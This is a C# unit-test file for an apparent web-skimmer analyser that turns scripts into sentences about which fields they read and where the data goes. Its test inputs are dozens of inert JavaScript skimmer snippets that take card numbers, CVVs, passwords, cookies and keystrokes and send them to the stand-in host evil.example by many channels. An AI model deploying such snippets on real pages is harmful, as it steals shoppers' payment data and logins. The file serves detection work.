using System.Text;
using Shouldly;
using Weir.Scripts;
using Weir.Scripts.Evidence;
using Weir.Scripts.Folding;
using Xunit;

namespace Weir.Tests.Scripts.Evidence;

/// <summary>Sentences about what flows from where to where. All scripts are inert text.</summary>
public sealed class ScriptFlowTests
{
    private const string Validator = """
        (function () {
          var form = document.getElementById("payment");
          form.addEventListener("submit", function (event) {
            if (!isCard(form.elements["cc-number"].value)) event.preventDefault();
          });
        })();

        """;

    private const string Skimmer = """
        (function () {
          var t = ["cc-name", "cc-csc"];
          document.getElementById("payment").addEventListener("submit", function () {
            new Image().src = "https://evil.example/p.gif?v=" + btoa(read(t));
          });
        })();
        """;

    /// <summary>What the shop reads itself stands first, and does not go anywhere.</summary>
    [Fact]
    public void Say_SkimmerBehindAValidator_PointsAtWhatIsSent()
    {
        var (sentence, offset) = Of(Validator + Skimmer)!.Value;

        sentence.ShouldBe("Reads cc-name, cc-csc on submit, makes text of it (btoa) and sends to evil.example by an image request.");
        offset.ShouldBe((Validator + Skimmer).IndexOf("\"cc-name\"", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("navigator.sendBeacon('https://evil.example', new FormData(document.forms[0]))", "Reads all fields of a form (FormData) and sends to evil.example by sendBeacon.")]
    [InlineData("$.post('https://evil.example/c', $(this).serialize())", "Reads all fields of a form (serialize) and sends to evil.example by post.")]
    [InlineData("document.addEventListener('change', e => fetch('https://evil.example/' + e.target.value))", "Reads the field that changes on change and sends to evil.example by fetch.")]
    [InlineData("onkeyup = e => fetch('https://evil.example/' + e.key)", "Reads keys that are pressed on keyup and sends to evil.example by fetch.")]
    [InlineData("[...document.querySelectorAll('input')].map(i => i.value); fetch('https://evil.example/')", "Reads all input fields and sends to evil.example by fetch.")]
    [InlineData("new Image().src = 'https://evil.example/' + document.cookie", "Reads document.cookie and sends to evil.example by an image request.")]
    [InlineData("XMLHttpRequest.prototype.send = function (d) { log('https://evil.example/', d.cc_number) }", "Puts itself in the place of XMLHttpRequest.prototype.send, reads cc_number and sends it nowhere that was seen.")]
    [InlineData("window.fetch = function (u, o) { o.body.cvv; navigator.sendBeacon('https://evil.example/', o.body) }", "Puts itself in the place of window.fetch, reads cvv and sends to evil.example by sendBeacon.")]
    [InlineData("Object.defineProperty(HTMLInputElement.prototype, 'value', { set: function (v) { fetch('https://evil.example/' + v) } })", "Puts itself in the place of HTMLInputElement.prototype.value and sends to evil.example by fetch.")]
    [InlineData("window.open('https://evil.example/?' + document.querySelector('#cc-number').value)", "Reads #cc-number and sends to evil.example by a new window.")]
    [InlineData("location = 'https://evil.example/?' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by sending the visitor there.")]
    [InlineData("location.href = 'https://evil.example/?' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by sending the visitor there.")]
    [InlineData("var s = document.createElement('script'); s.src = 'https://evil.example/' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by a script element.")]
    [InlineData("var f = document.createElement('iframe'); f.src = `https://evil.example/${document.querySelector('#cc-number').value}`", "Reads #cc-number and sends to evil.example by a frame.")]
    [InlineData("document.querySelector('#payment-form').action = 'https://evil.example/take'", "Sends to evil.example by changing where a form goes.")]
    [InlineData("if (/checkout|onepage/.test(location.href) && page('checkout')) { var s = document.createElement('script'); s.src = 'https://evil.example/x.js' }", "Looks whether the page is checkout and brings a script of evil.example.")]
    [InlineData("import('https://evil.example/m.js?' + document.querySelector('#cc-number').value)", "Reads #cc-number and sends to evil.example by import.")]
    [InlineData("new Audio('https://evil.example/a.mp3?' + document.querySelector('#cc-number').value).load()", "Reads #cc-number and sends to evil.example by an audio request.")]
    [InlineData("document.images[0].src = 'https://evil.example/k.gif?k=' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by an image request.")]
    [InlineData("document.body.style.backgroundImage = 'url(https://evil.example/b.png?' + document.querySelector('#cc-number').value + ')'", "Reads #cc-number and sends to evil.example by an image request.")]
    [InlineData("new FontFace('f', 'url(\"https://evil.example/f.woff?' + document.querySelector('#cc-number').value + '\")').load()", "Reads #cc-number and sends to evil.example by a font request.")]
    [InlineData("new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478', username: document.querySelector('#cc-number').value }] })", "Reads username, #cc-number and sends to evil.example:3478 by RTCPeerConnection.")]
    public void Say_Skimmer_NamesSourceAndSink(string code, string sentence) => Of(code)!.Value.Sentence.ShouldBe(sentence);

    /// <summary>A text that names elements is no event, and what a request or an image is done with is none of the page.</summary>
    [Theory]
    [InlineData("$('body').on('change', 'input', function () { fetch('https://evil.example/' + this.value, cc_number) })", "on change and")]
    [InlineData("document.createElement('input'); fetch('https://evil.example/' + cc_number)", "cc_number and")]
    [InlineData("var x = new XMLHttpRequest(); x.onload = done; x.send('https://evil.example/', cc_number)", "cc_number and")]
    [InlineData("img.addEventListener('load', done); fetch('https://evil.example/', cc_number)", "cc_number and")]
    [InlineData("window.onload = function () { fetch('https://evil.example/', cc_number) }", "cc_number on load and")]
    [InlineData("document.addEventListener('input', function () { fetch('https://evil.example/', cc_number) })", "cc_number on input and")]
    public void Say_Occasion_IsAnEventOfThePage(string code, string part) => Of(code)!.Value.Sentence.ShouldContain(part);

    /// <summary>What the script stands in the place of is called on, and no way out; what passes there has no name.</summary>
    [Theory]
    [InlineData("const real = window.fetch; window.fetch = function (u, o) { var f = document.createElement('form'); f.action = 'https://evil.example/f'; h.value = btoa(o.body); return real.call(this, u, o) }", "Puts itself in the place of window.fetch, makes text (btoa) and sends to evil.example by changing where a form goes.")]
    [InlineData("(function (p) { var o = p.send; p.send = function (b) { navigator.sendBeacon('https://evil.example/b', b); return o.apply(this, arguments) } })(XMLHttpRequest.prototype)", "Puts itself in the place of XMLHttpRequest.prototype.send and sends to evil.example by sendBeacon.")]
    [InlineData("client.send = function (b) { navigator.sendBeacon('https://evil.example/b', btoa(b)) }", "Makes text (btoa) and sends to evil.example by sendBeacon.")]
    [InlineData("var c = Stripe.card.createToken; Stripe.card.createToken = function (card, done) { fetch('https://evil.example/' + card.cvc); return c.call(Stripe.card, card, done) }", "Puts itself in the place of Stripe.card.createToken, reads cvc and sends to evil.example by fetch.")]
    [InlineData("parent.postMessage(document.querySelectorAll('input'), '*'); listen(function (m) { navigator.sendBeacon('https://evil.example/b', m.data) })", "Reads all input fields and sends to evil.example by a message to another window, sendBeacon.")]
    [InlineData("var f = document.forms.namedItem('l'); fetch('https://evil.example/' + f.elements['password'].value)", "Reads password and sends to evil.example by fetch.")]
    public void Say_WhatIsReplaced_IsNoSink(string code, string sentence) => Of(code)!.Value.Sentence.ShouldBe(sentence);

    /// <summary>A constant that is brought in takes nothing away.</summary>
    [Theory]
    [InlineData("new Audio('https://cdn.example/ding.mp3').play(); document.querySelector('#cc-number').value", "an audio request")]
    [InlineData("import('https://cdn.example/m.js'); fetch('https://api.example/' + document.querySelector('#cc-number').value)", "import")]
    public void Say_ConstantAddress_IsNoSink(string code, string sink) => (Of(code)?.Sentence ?? "").ShouldNotContain(sink);

    /// <summary>A method, a setting or a file of such a name is no field.</summary>
    [Theory]
    [InlineData("_.zip(a, b); fetch('https://api.example/')")]
    [InlineData("var zip = new JSZip(); zip.file('a.txt', b); fetch('https://api.example/')")]
    [InlineData("new RTCPeerConnection({ iceServers: [{ urls: 'turn:t.example', username: name, credential: 'x' }] }); fetch('https://api.example/')")]
    [InlineData("stripe.create({ cvc: 'Security code', zip: true }); fetch('https://api.example/')")]
    [InlineData("client.username = options; fetch('https://api.example/')")]
    [InlineData("fetch('https://api.example/', new FormData())")]
    [InlineData("fetch('https://api.example/').then(a => { document.getElementById('city').value = a.town; form.street.value = a.line; $('#zip').val(a.code) })")]
    [InlineData("if (e.target.type === 'password' || 'password' === e.target.type) return; fetch('https://api.example/')")]
    [InlineData("document.addEventListener('click', e => e.key); fetch('https://api.example/')")]
    public void Say_NamesThatReadNoField_AreNotSaidToBeRead(string code) => Of(code)!.Value.Sentence.ShouldNotContain("Reads");

    [Theory]
    [InlineData("send({ zip: document.querySelector('#z').value }); fetch('https://evil.example/')", "zip")]
    [InlineData("var city = form.querySelector('#c').value; fetch('https://evil.example/')", "city")]
    [InlineData("post(order.lastname); fetch('https://evil.example/')", "lastname")]
    [InlineData("send({ cvv: c }); fetch('https://evil.example/')", "cvv")]
    public void Say_NamesThatAreRead_AreSaid(string code, string field) => Of(code)!.Value.Sentence.ShouldStartWith($"Reads {field} and sends to evil.example");

    [Fact]
    public void Say_Malware_SendsElsewhereAndBringsScripts()
    {
        Of("location.replace('https://evil.example/win')", ScriptClass.Malware)!.Value.Sentence.ShouldBe("Sends the visitor elsewhere and names evil.example.");
        Of("var s = document.createElement('script'); s.src = 'https://evil.example/x.js'", ScriptClass.Malware)!.Value.Sentence.ShouldBe("Writes into the page (a script element) and names evil.example.");
    }

    private static (string Sentence, int Offset)? Of(string code, ScriptClass one = ScriptClass.Skimmer)
    {
        var folder = new ScriptFolder();
        folder.Fold(Encoding.UTF8.GetBytes(code));
        return ScriptFlow.Of(folder, 0, folder.Tokens.Length).Say(one);
    }
}
